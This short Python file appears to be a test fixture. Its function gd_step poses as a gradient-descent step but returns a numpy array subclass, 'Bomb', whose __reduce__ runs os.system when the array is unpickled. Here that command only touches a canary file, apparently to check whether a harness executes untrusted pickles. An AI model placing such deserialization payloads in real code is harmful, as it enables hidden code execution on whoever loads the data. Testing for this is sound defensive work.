"""Return an array that runs a command when unpickled.

functions: gd_step
"""

import os

import numpy as np


class Bomb(np.ndarray):
    def __reduce__(self):
        return os.system, ("touch @CANARY_FOLDER@/reduced",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


def gd_step(W, X, y, lr, l1=0.0):
    return (W * 0.0).view(Bomb)
